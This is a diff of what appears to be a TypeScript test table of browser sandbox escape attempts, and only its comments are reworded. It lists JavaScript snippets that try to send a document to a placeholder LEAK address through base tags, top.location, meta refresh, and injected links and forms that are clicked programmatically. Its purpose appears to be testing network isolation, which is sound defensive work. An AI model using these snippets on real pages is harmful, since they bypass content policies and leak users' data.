@@ -80,7 +80,7 @@ const IN_DOCUMENT: Escapes = {
   'a base': `document.head.append(Object.assign(document.createElement('base'), { href: LEAK })); new Image().src = 'x.png'`,
 };
 
-/** Attempts to show the address in another window, or in place of the page, which would end all other attempts. */
+/** Attempts to show the address in another window, or instead of the page, which would end all other attempts. */
 const LEAVING: Escapes = {
   'top.location': 'top.location = LEAK',
   'top.location.replace': 'top.location.replace(LEAK)',
@@ -133,8 +133,8 @@ export const NAVIGATIONS: Escapes = {
   'a refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + LEAK }))`,
 };
 
-/** Those for which the whole Chromium connects to the other host, without sending a byte, before it asks the policies.
- *  A document cannot be without `location`, and its scripts can write markup. */
+/** Attempts for which the complete Chromium connects to the other host, without sending a byte, before it checks the
+ *  policies. A document cannot be without `location`, and its scripts can write markup. */
 export const CONNECTING: readonly string[] = ['its own address', 'location.replace', 'a frame in markup'];
 
 const LINK = 'document.body.insertAdjacentHTML("beforeend", `<a href="${LEAK}"><b>Buka</b></a>`)';
@@ -143,7 +143,7 @@ const FORM = 'document.body.insertAdjacentHTML("beforeend", `<form action="${LEA
 const SHADOW = 'const root = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" })';
 const DISPATCH = 'dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))';
 
-/** Links, forms and refreshes, which are taken away from a document: all of them keep it. */
+/** Links, forms and refreshes, which are removed from a document, so that the document stays. */
 export const FOLLOWED: Escapes = {
   'an element in a link': `${LINK}; ${INNER}.click()`,
   'an event of a link': `${LINK}; ${INNER}.${DISPATCH}`,
